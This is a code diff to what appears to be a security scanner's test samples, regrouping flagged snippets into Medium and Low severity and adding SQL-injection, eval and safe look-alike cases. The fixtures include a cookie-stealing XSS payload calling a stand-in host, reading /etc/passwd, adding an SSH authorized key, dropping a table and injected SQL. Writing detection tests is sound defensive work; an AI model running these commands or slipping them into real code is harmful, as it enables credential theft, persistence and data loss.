@@ -64,10 +64,10 @@ internal static class Samples
         ("html.script_theft", "<img src=x onerror=\"fetch('//x.test/'+document.cookie)\">"),
     ];
 
-    public static readonly (string Rule, string Text)[] Lower =
+    /// <summary>What the default finds beside them.</summary>
+    public static readonly (string Rule, string Text)[] Medium =
     [
         ("python.evaluation.dynamic", "result = eval(expression)"),
-        ("python.evaluation", "eval('1 + 1')"),
         ("python.command.dynamic", "os.system('ping ' + host)"),
         ("python.deserialise.dynamic", "pickle.loads(blob)"),
         ("python.yaml.dynamic", "yaml.load(stream)"),
@@ -75,7 +75,6 @@ internal static class Samples
         ("python.shell_process.dynamic", "from subprocess import Popen as pop\npop(var, shell=True)\n"),
         ("python.query.dynamic", "cursor.execute(f\"SELECT * FROM t WHERE id = {user_id}\")"),
         ("javascript.command.dynamic", "child_process.exec(cmd)"),
-        ("javascript.inner.dynamic", "el.innerHTML = value;"),
         ("php.command.dynamic", "<?php shell_exec($cmd); ?>"),
         ("ruby.evaluation.dynamic", "eval params_text"),
         ("java.command.dynamic", "Runtime.getRuntime().exec(cmd);"),
@@ -83,28 +82,44 @@ internal static class Samples
         ("csharp.process.dynamic", "Process.Start(path);"),
         ("csharp.arguments.dynamic", "process.StartInfo.Arguments = value;"),
         ("go.process.dynamic", "exec.Command(name, args...)"),
-        ("go.unsafe.dynamic", "p := unsafe.Pointer(x)"),
-        ("rust.unsafe", "fn f() { unsafe { g() } }"),
-        ("rust.memory.dynamic", "let x = std::mem::transmute(y);"),
         ("c.command.dynamic", "#include <stdlib.h>\nint main() { system(buffer); }"),
         ("c.unbounded.dynamic", "strcpy(dst, src);"),
         ("powershell.process.dynamic", "Start-Process $file"),
         ("shell.credentials", "cat /etc/passwd"),
         ("shell.persistence", "echo key >> ~/.ssh/authorized_keys"),
+        ("sql.delay", "WAITFOR DELAY '0:0:5'"),
+        ("sql.file", "SELECT 1 INTO OUTFILE '/tmp/x'"),
+        ("sql.destruction", "drop table users"),
+        ("python.query.dynamic", "sql = \"SELECT * FROM t WHERE id = \" + user_id\ncursor.execute(sql)\n"),
+        ("python.query.dynamic", "sql = \"SELECT * FROM t\"\nsql += \" WHERE id = \" + user_id\ncursor.execute(sql)\n"),
+        ("javascript.query.dynamic", "```js\ndb.query(`SELECT * FROM t WHERE id = ${id}`);\n```"),
+        ("javascript.evaluation.dynamic", "```js\nconst half = a / 2; eval(code); const b = c / 3;\n```"),
+        ("javascript.evaluation.dynamic", "```html\n<p>x</p><script>\n// only here\neval(code)</script>\n```"),
+    ];
+
+    /// <summary>What is found on request only.</summary>
+    public static readonly (string Rule, string Text)[] Low =
+    [
+        ("python.evaluation", "eval('1 + 1')"),
+        ("javascript.inner.dynamic", "el.innerHTML = value;"),
+        ("go.unsafe.dynamic", "p := unsafe.Pointer(x)"),
+        ("rust.unsafe", "fn f() { unsafe { g() } }"),
+        ("rust.memory.dynamic", "let x = std::mem::transmute(y);"),
         ("shell.delete", "rm -rf build"),
         ("shell.inline_code", "python -c 'print(1)'"),
         ("shell.fetch", "curl https://x.test"),
         ("sql.union", "1 UNION ALL SELECT a FROM b"),
-        ("sql.delay", "WAITFOR DELAY '0:0:5'"),
-        ("sql.file", "SELECT 1 INTO OUTFILE '/tmp/x'"),
-        ("sql.destruction", "drop table users"),
         ("sql.write", "INSERT INTO t VALUES (1)"),
         ("sql.read", "select a from b"),
         ("html.script", "<script src=a.js></script>"),
         ("html.script_uri", "<a href=\"javascript:alert(1)\">x</a>"),
         ("html.event_handler", "<body onload=start()>"),
         ("html.frame", "<iframe src=a></iframe>"),
+        ("c.unterminated.dynamic", "#include <stdio.h>\nsprintf(out, \"%s\", name);"),
     ];
+
+    /// <summary>All that is less than grave.</summary>
+    public static readonly (string Rule, string Text)[] Lower = [.. Medium, .. Low];
 
     /// <summary>Texts about code, and code that only looks like it.</summary>
     public static readonly string[] Innocent =
@@ -117,6 +132,13 @@ internal static class Samples
         "const m = /a/.exec(text);",
         "ast.literal_eval(text)",
         "yaml.load(stream, Loader=yaml.SafeLoader)",
+        "cursor.execute(\"SELECT * FROM t WHERE id = ?\", (user_id,))",
+        "await pool.query(\"SELECT * FROM t WHERE id = $1\", [req.query.id]);",
+        "sql = \"SELECT * FROM t WHERE id = ?\"\ncursor.execute(sql, (user_id,))\n",
+        "pub struct Timestamp {\n    instant: Instant,\n    system: SystemTime,\n}",
+        "```bash\nfor x in `ls $dir`; do echo $x; done\n```",
+        "```js\nconst m = x.match(/eval(code)/g);\n```",
+        "```ts\n/* eval(code) */ const a = `eval(code) ${b}`;\n```",
         "model.eval()",
         "```python\n# os.system(request.args['x'])\nprint('x')\n```",
         "The request was denied; please select a seat from the list.",
